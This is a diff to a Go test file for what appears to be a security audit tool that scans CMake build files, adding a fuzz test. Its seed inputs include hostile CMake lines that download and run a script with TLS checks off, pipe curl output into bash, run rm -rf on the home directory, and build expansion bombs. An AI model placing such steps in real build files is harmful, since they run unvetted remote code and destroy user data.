@@ -1,8 +1,12 @@
 package audit
 
 import (
+	"context"
 	"reflect"
+	"strings"
 	"testing"
+
+	"github.com/skilldex/skilldex/index"
 )
 
 // TestParseCMake: commands, quoted and bracket arguments, nested
@@ -45,5 +49,26 @@ func FuzzParseCMake(f *testing.F) {
 				t.Fatalf("line %d of %d", c.line, lines)
 			}
 		}
+	})
+}
+
+// FuzzScanCMake: no CMake text stops the audit (a panic in the parser,
+// the expansion or the shell rules it feeds), and self-referencing
+// variables stay within the expansion bound.
+func FuzzScanCMake(f *testing.F) {
+	for _, s := range []string{
+		"set(D /tmp)\nfile(DOWNLOAD https://x/a ${D}/a TLS_VERIFY OFF)\nexecute_process(COMMAND sh ${D}/a OUTPUT_QUIET)",
+		"file(DOWNLOAD u d)\nfile(ARCHIVE_EXTRACT INPUT d DESTINATION e)\nset(CMAKE_C_COMPILER e/cc)",
+		"set(A ${A}${A}${A}${A})\nset(B ${A}${A}${A}${A})\ninclude(${B})",
+		"add_custom_target(t COMMAND bash -c \"$(curl x)\" COMMAND rm -rf $ENV{HOME})",
+		"file(DOWNLOAD)\nfile(DOWNLOAD a b TLS_VERIFY)\nexecute_process(COMMAND)",
+		strings.Repeat("set(A ${A}${A})\n", 64) + "include(${A})",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		sc := &skillCtx{ctx: context.Background(), skill: index.Skill{Name: "s"}}
+		sc.fileText = src
+		scanCMake(sc, "CMakeLists.txt", src)
 	})
 }
